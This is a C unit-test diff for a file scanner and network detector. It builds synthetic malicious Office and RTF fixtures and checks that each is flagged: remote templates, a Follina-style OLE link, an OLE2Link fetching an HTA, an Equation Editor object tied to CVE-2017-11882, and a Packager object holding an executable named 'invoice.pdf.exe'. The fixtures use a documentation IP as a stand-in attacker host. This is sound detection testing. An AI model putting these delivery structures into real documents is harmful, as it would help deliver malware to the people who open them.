@@ -1322,6 +1322,325 @@ static void test_scan_xlm(void **state)
     zs_work_free(w);
 }
 
+/* ---- active content: remote templates and OLE links, RTF objects ----------------------- */
+
+#define RNS "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+
+/* A .docx whose word/_rels/settings.xml.rels names `target` as its template. */
+static struct buf mk_docx_template(const char *target)
+{
+    char rels[1024];
+    snprintf(rels, sizeof rels,
+             "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/"
+             "package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"" RNS
+             "attachedTemplate\" Target=\"%s\" TargetMode=\"External\"/></Relationships>",
+             target);
+    struct zipw z = {0};
+    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
+    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
+    zip_add(&z, "word/settings.xml", (const uint8_t *)"<w:settings/>", 13, DEFL);
+    zip_add(&z, "word/_rels/settings.xml.rels", (const uint8_t *)rels, strlen(rels), DEFL);
+    return zip_end(&z);
+}
+
+/* An RTF document embedding one OLE 1.0 object of class cls with the native data given, as
+ * Word writes it (hex, 128 digits a line), after `before` (RTF text). */
+static struct buf mk_rtf(const char *before, const char *cls, const uint8_t *native, size_t n)
+{
+    struct buf o = {0}, r = {0};
+    b_le32(&o, 0x00000501);
+    b_le32(&o, 2);
+    b_le32(&o, (uint32_t)strlen(cls) + 1);
+    b_put(&o, cls, strlen(cls) + 1);
+    b_le32(&o, 0);
+    b_le32(&o, 0);
+    b_le32(&o, (uint32_t)n);
+    b_put(&o, native, n);
+    char head[512];
+    snprintf(head, sizeof head,
+             "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Times;}}%s{\\object\\objemb\\objupdate"
+             "{\\*\\objclass %s}\\objw300\\objh200{\\*\\objdata\r\n", before, cls);
+    b_put(&r, head, strlen(head));
+    for (size_t i = 0; i < o.len; i++) {
+        char hx[4];
+        snprintf(hx, sizeof hx, "%02x", o.p[i]);
+        b_put(&r, hx, 2);
+        if (i % 64 == 63)
+            b_put(&r, "\r\n", 2);
+    }
+    b_put(&r, "}{\\result{\\pict\\wmetafile8 0100}}}\\par}", 38);
+    b_free(&o);
+    return r;
+}
+
+/* Packager native data carrying `name` with the bytes given. */
+static struct buf mk_package(const char *name, const uint8_t *d, size_t n)
+{
+    struct buf b = {0};
+    char src[128], tmp[160];
+    snprintf(src, sizeof src, "C:\\Users\\kato\\Desktop\\%s", name);
+    snprintf(tmp, sizeof tmp, "C:\\Users\\kato\\AppData\\Local\\Temp\\%s", name);
+    b_le16(&b, 2);
+    b_put(&b, name, strlen(name) + 1);
+    b_put(&b, src, strlen(src) + 1);
+    b_put(&b, "\0\0\3\0", 4);
+    b_le32(&b, (uint32_t)strlen(tmp) + 1);
+    b_put(&b, tmp, strlen(tmp) + 1);
+    b_le32(&b, (uint32_t)n);
+    b_put(&b, d, n);
+    return b;
+}
+
+/*
+ * Documents that act when opened: a remote template in a .docx (not a local one), an Excel
+ * 4.0 macro sheet in an .xlsx whose content types do not say so, and RTF objects: Equation
+ * Editor, OLE2Link, a Packager executable, a Word document with macros; an RTF with a
+ * harmless embedded workbook, and a plain one. Then the detector: sid 6007 with its reasons,
+ * details and evidence; the packaged executable is 6001, the embedded macros 6004; the
+ * benign documents are silent.
+ */
+static void test_scan_active(void **state)
+{
+    (void)state;
+    zs_work_t *w = work(3, 256, 512 << 10, 4 << 20);
+    struct zs_result r;
+    const struct zs_item *it;
+
+    struct buf tpl = mk_docx_template("http://198.51.100.7/t.dotm");
+    scan(w, tpl.p, tpl.len, tpl.len, &r);
+    assert_int_equal(r.kind, ZS_K_OOXML);
+    assert_int_equal(r.flags, ZS_F_REMOTE);
+    assert_string_equal(r.remote_kind, "template");
+    assert_string_equal(r.remote_target, "http://198.51.100.7/t.dotm");
+    it = need_item(&r, "word/_rels/settings.xml.rels");
+    assert_int_equal(it->flags, ZS_F_REMOTE);
+    assert_non_null(strstr(r.note, "remote template http://198.51.100.7/t.dotm"));
+    struct buf local = mk_docx_template("file:///C:/Users/kato/AppData/Roaming/Microsoft/"
+                                        "Templates/Normal.dotm");
+    scan(w, local.p, local.len, local.len, &r);
+    assert_int_equal(r.flags, 0);
+    assert_string_equal(r.remote_kind, "");
+    /* inside a ZIP, one level down */
+    struct zipw z = {0};
+    zip_add(&z, "order.docx", tpl.p, tpl.len, STORED);
+    struct buf outer = zip_end(&z);
+    scan(w, outer.p, outer.len, outer.len, &r);
+    assert_true(r.flags & ZS_F_REMOTE);
+    need_item(&r, "order.docx!/word/_rels/settings.xml.rels");
+
+    /* Follina: an OLE object relationship behind 300 hyperlinks, in a part far larger than
+     * the first look at an entry (4 KiB) */
+    struct buf drels = {0};
+    const char *rh = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas."
+                     "openxmlformats.org/package/2006/relationships\">";
+    b_put(&drels, rh, strlen(rh));
+    for (int i = 0; i < 300; i++) {
+        char row[256];
+        snprintf(row, sizeof row, "<Relationship Id=\"rId%d\" Type=\"" RNS "hyperlink\" "
+                 "Target=\"https://www.example.com/p%d\" TargetMode=\"External\"/>", i + 10, i);
+        b_put(&drels, row, strlen(row));
+    }
+    const char *ole = "<Relationship Id=\"rId996\" Type=\"" RNS "oleObject\" Target=\"http"
+                      "://198.51.100.7/index.html!\" TargetMode=\"External\"/></Relationships>";
+    b_put(&drels, ole, strlen(ole));
+    assert_true(drels.len > 16384);
+    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
+    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
+    zip_add(&z, "word/_rels/document.xml.rels", drels.p, drels.len, DEFL);
+    struct buf follina = zip_end(&z);
+    scan(w, follina.p, follina.len, follina.len, &r);
+    assert_int_equal(r.flags, ZS_F_REMOTE);
+    assert_string_equal(r.remote_kind, "OLE object");
+    assert_string_equal(r.remote_target, "http://198.51.100.7/index.html!");
+    b_free(&drels);
+    b_free(&follina);
+
+    /* XLM macro sheets in OOXML, found by the part's name */
+    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
+    zip_add(&z, "xl/workbook.xml", (const uint8_t *)"<workbook/>", 11, DEFL);
+    zip_add(&z, "xl/macrosheets/sheet1.xml", (const uint8_t *)"<xm:macrosheet/>", 16, DEFL);
+    struct buf xlsx = zip_end(&z);
+    scan(w, xlsx.p, xlsx.len, xlsx.len, &r);
+    assert_int_equal(r.flags, ZS_F_MACRO | ZS_F_MACRO_XLM);
+    it = need_item(&r, "xl/macrosheets/sheet1.xml");
+    assert_int_equal(it->flags, ZS_F_MACRO | ZS_F_MACRO_XLM);
+
+    /* RTF: the Equation Editor */
+    static const uint8_t eq[] = {0x1c, 0, 0, 0, 2, 0, 0x9e, 0xc4, 0xa9, 0, 0, 0, 0, 0, 0, 0};
+    struct buf rtf_eq = mk_rtf("", "Equation.3", eq, sizeof eq);
+    scan(w, rtf_eq.p, rtf_eq.len, rtf_eq.len, &r);
+    assert_int_equal(r.kind, ZS_K_RTF);
+    assert_int_equal(r.flags, ZS_F_EXPLOIT);
+    assert_string_equal(r.exploit_class, "Equation.3");
+    assert_int_equal(r.objects, 1);
+    assert_string_equal(r.desc, "Rich Text Format document with an Equation Editor object");
+    assert_non_null(strstr(r.note, "Equation Editor object (Equation.3), updated automatically"));
+    need_item(&r, "Equation.3");
+    /* MathType is another program */
+    struct buf rtf_mt = mk_rtf("", "Equation.DSMT4", eq, sizeof eq);
+    scan(w, rtf_mt.p, rtf_mt.len, rtf_mt.len, &r);
+    assert_int_equal(r.flags, 0);
+    assert_non_null(strstr(r.note, "embedded OLE object Equation.DSMT4"));
+
+    /* an Equation Editor object in OLE2: by its class id, or by its stream under another
+     * class (a renamed RTF object), and as an OOXML embedding */
+    static const uint8_t eq_clsid[16] = {0x02, 0xce, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0,
+                                         0x46};
+    static const char *const eqn_names[] = {"\001Ole", "\001CompObj"};
+    static const uint8_t eqn_types[] = {2, 2};
+    struct buf ole_eq = mk_ole(eqn_names, eqn_types, 2, eq_clsid, false);
+    scan(w, ole_eq.p, ole_eq.len, ole_eq.len, &r);
+    assert_int_equal(r.flags, ZS_F_EXPLOIT);
+    assert_string_equal(r.exploit_class, "Equation.3");
+    static const char *const eqs_names[] = {"\001CompObj", "Equation Native"};
+    struct buf ole_eqs = mk_ole(eqs_names, eqn_types, 2, NULL, false);
+    scan(w, ole_eqs.p, ole_eqs.len, ole_eqs.len, &r);
+    assert_int_equal(r.flags, ZS_F_EXPLOIT);
+    struct buf rtf_renamed = mk_rtf("", "Word.Document.8", ole_eqs.p, ole_eqs.len);
+    scan(w, rtf_renamed.p, rtf_renamed.len, rtf_renamed.len, &r);
+    assert_int_equal(r.flags, ZS_F_EXPLOIT);
+    need_item(&r, "Word.Document.8");
+    zip_add(&z, "[Content_Types].xml", (const uint8_t *)CT_PLAIN, strlen(CT_PLAIN), DEFL);
+    zip_add(&z, "word/document.xml", (const uint8_t *)"<w:document/>", 13, DEFL);
+    zip_add(&z, "word/embeddings/oleObject1.bin", ole_eqs.p, ole_eqs.len, DEFL);
+    struct buf docx_eq = zip_end(&z);
+    scan(w, docx_eq.p, docx_eq.len, docx_eq.len, &r);
+    assert_int_equal(r.flags, ZS_F_EXPLOIT);
+    it = need_item(&r, "word/embeddings/oleObject1.bin");
+    assert_int_equal(it->flags, ZS_F_EXPLOIT);
+    assert_non_null(strstr(r.note, "Equation Editor object (OLE)"));
+
+    /* RTF: an OLE2Link, its URL in the moniker's UTF-16 text */
+    struct buf link = {0};
+    b_put(&link, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
+    b_zero(&link, 100);
+    const char *url = "http://198.51.100.7/doc.hta";
+    for (size_t i = 0; url[i]; i++)
+        b_le16(&link, (uint8_t)url[i]);
+    b_zero(&link, 40);
+    struct buf rtf_link = mk_rtf("", "OLE2Link", link.p, link.len);
+    scan(w, rtf_link.p, rtf_link.len, rtf_link.len, &r);
+    assert_int_equal(r.flags, ZS_F_REMOTE);
+    assert_string_equal(r.remote_kind, "OLE2Link object");
+    assert_string_equal(r.remote_target, url);
+
+    /* RTF: a remote template, no objects */
+    static const char rtf_tpl[] =
+        "{\\rtf1\\ansi{\\*\\template http://198.51.100.7/t\\'2edot}{\\fonttbl}Hello\\par}";
+    scan(w, (const uint8_t *)rtf_tpl, strlen(rtf_tpl), strlen(rtf_tpl), &r);
+    assert_int_equal(r.flags, ZS_F_REMOTE);
+    assert_string_equal(r.remote_target, "http://198.51.100.7/t.dot");
+    assert_string_equal(r.desc, "Rich Text Format document with a remote template");
+
+    /* RTF: a Packager object carrying an executable under a document's name */
+    struct buf pe = mk_pe(1024, false);
+    struct buf pkg = mk_package("invoice.pdf.exe", pe.p, pe.len);
+    struct buf rtf_pkg = mk_rtf("", "Package", pkg.p, pkg.len);
+    scan(w, rtf_pkg.p, rtf_pkg.len, rtf_pkg.len, &r);
+    assert_int_equal(r.flags, ZS_F_EXECUTABLE | ZS_F_DISGUISED);
+    it = need_item(&r, "Package!/invoice.pdf.exe");
+    assert_int_equal(it->kind, ZS_K_PE);
+    assert_non_null(strstr(r.note, "embedded package object: invoice.pdf.exe"));
+
+    /* RTF: an embedded Word document with macros is looked into; a plain one is not news */
+    static const char *const vba_names[] = {"WordDocument", "Macros", "VBA", "_VBA_PROJECT"};
+    static const uint8_t vba_types[] = {2, 1, 1, 2};
+    struct buf ole_vba = mk_ole(vba_names, vba_types, 4, NULL, false);
+    struct buf rtf_vba = mk_rtf("", "Word.Document.8", ole_vba.p, ole_vba.len);
+    scan(w, rtf_vba.p, rtf_vba.len, rtf_vba.len, &r);
+    assert_int_equal(r.flags, ZS_F_MACRO);
+    it = need_item(&r, "Word.Document.8");
+    assert_int_equal(it->kind, ZS_K_OLE);
+    static const char *const plain_names[] = {"Workbook"};
+    static const uint8_t plain_types[] = {2};
+    struct buf ole_plain = mk_ole(plain_names, plain_types, 1, NULL, false);
+    struct buf rtf_plain = mk_rtf("Quarterly figures:\\par ", "Excel.Sheet.8", ole_plain.p,
+                                  ole_plain.len);
+    scan(w, rtf_plain.p, rtf_plain.len, rtf_plain.len, &r);
+    assert_int_equal(r.flags, 0);
+    assert_int_equal(r.n_items, 0);
+    assert_string_equal(r.desc, "Rich Text Format document with an embedded object");
+    /* a plain RTF; the header Word accepts */
+    static const char plain[] = "{\\rtx1\\ansi Hello \\\\objdata world\\par}";
+    scan(w, (const uint8_t *)plain, strlen(plain), strlen(plain), &r);
+    assert_int_equal(r.kind, ZS_K_RTF);
+    assert_int_equal(r.flags, 0);
+    assert_int_equal(r.objects, 0);
+    assert_true(zs_worth_scanning((const uint8_t *)plain, strlen(plain)));
+    /* past the depth limit: the class still counts, the content is not opened */
+    zs_work_t *w1 = work(1, 256, 512 << 10, 4 << 20);
+    zip_add(&z, "a.rtf", rtf_eq.p, rtf_eq.len, STORED);
+    zip_add(&z, "b.rtf", rtf_vba.p, rtf_vba.len, STORED);
+    struct buf zrtf = zip_end(&z);
+    scan(w1, zrtf.p, zrtf.len, zrtf.len, &r);
+    assert_int_equal(r.flags, ZS_F_EXPLOIT);
+    assert_true(r.status & ZS_S_LIMIT);
+    need_item(&r, "a.rtf!/Equation.3");
+    zs_work_free(w1);
+
+    /* the detector */
+    struct col c = {0};
+    dtr_host_t *h = host(&c, NULL, 0);
+    struct {
+        const char *name;
+        const struct buf *b;
+        uint32_t sid; /* 0: no alert */
+        const char *want[3];
+    } rows[] = {
+        {"order.docx", &tpl, 6007,
+         {"\"reasons\":[\"remote_content\"]",
+          "when opened, it loads a template from http://198.51.100.7/t.dotm",
+          "\"remote\":{\"type\":\"template\",\"target\":\"http://198.51.100.7/t.dotm\"}"}},
+        {"letter.docx", &local, 0, {NULL}},
+        {"quote.rtf", &rtf_eq, 6007,
+         {"\"reasons\":[\"exploit_object\"]", "CVE-2017-11882",
+          "\"exploit_object\":\"Equation.3\""}},
+        {"scan.rtf", &rtf_link, 6007,
+         {"\"reasons\":[\"remote_content\"]",
+          "fetches an OLE object from http://198.51.100.7/doc.hta",
+          "\"type\":\"OLE2Link object\""}},
+        {"payment.doc", &rtf_pkg, 6001,
+         {"\"reasons\":[\"double_extension\",\"executable\"]",
+          "it holds an executable (pe): Package!/invoice.pdf.exe", NULL}},
+        {"memo.rtf", &rtf_vba, 6004, {"\"reasons\":[\"macro\"]", NULL}},
+        {"figures.rtf", &rtf_plain, 0, {NULL}},
+        {"spec.docx", &docx_eq, 6007,
+         {"\"reasons\":[\"exploit_object\"]", "\"exploit_object\":\"Equation.3\"",
+          "\"path\":\"word/embeddings/oleObject1.bin\",\"type\":\"ole\",\"reasons\":"
+          "[\"exploit_object\"]"}},
+        {"budget.xlsx", &xlsx, 6004,
+         {"it contains an Excel 4.0 (XLM) macro sheet: xl/macrosheets/sheet1.xml", NULL}},
+    };
+    uint64_t ts = T0;
+    for (size_t i = 0; i < MM_ARRAY_LEN(rows); i++) {
+        size_t before = c.n;
+        struct flow f = mk_flow(500 + i, 120, 25, 25);
+        struct app_file af =
+            mk_file(APP_PROTO_SMTP, rows[i].name, rows[i].b->p, rows[i].b->len, NULL);
+        feed(h, &f, FLOW_TOSERVER, ts, &af);
+        ts += S_NS;
+        TC_EQ(rows[i].name, c.n, before + (rows[i].sid ? 1 : 0));
+        if (!rows[i].sid || c.n != before + 1)
+            continue;
+        TC_EQ(rows[i].name, c.sid[before], rows[i].sid);
+        for (size_t k = 0; k < 3 && rows[i].want[k]; k++) {
+            TC_CHECK(rows[i].want[k], has_str(c.json[before], rows[i].want[k]));
+            if (!has_str(c.json[before], rows[i].want[k]))
+                fprintf(stderr, "  got %s\n", c.json[before]);
+        }
+    }
+    tc_done();
+    col_reset(&c);
+    dtr_free(h);
+    struct buf *all[] = {&tpl,  &local,   &outer,   &xlsx,    &rtf_eq,    &rtf_mt,
+                         &link, &rtf_link, &pe,     &pkg,     &rtf_pkg,   &ole_vba,
+                         &rtf_vba, &ole_plain, &rtf_plain, &zrtf,  &ole_eq,    &ole_eqs,
+                         &rtf_renamed, &docx_eq};
+    for (size_t i = 0; i < MM_ARRAY_LEN(all); i++)
+        b_free(all[i]);
+    zs_work_free(w);
+}
+
 static void test_detector_signatures(void **state)
 {
     (void)state;
@@ -1704,6 +2023,7 @@ int main(void)
         cmocka_unit_test(test_scan_zip_limits),
         cmocka_unit_test(test_scan_office),
         cmocka_unit_test(test_scan_xlm),
+        cmocka_unit_test(test_scan_active),
         cmocka_unit_test(test_scan_rar_7z),
         cmocka_unit_test(test_scan_containers),
         cmocka_unit_test(test_worth_scanning),
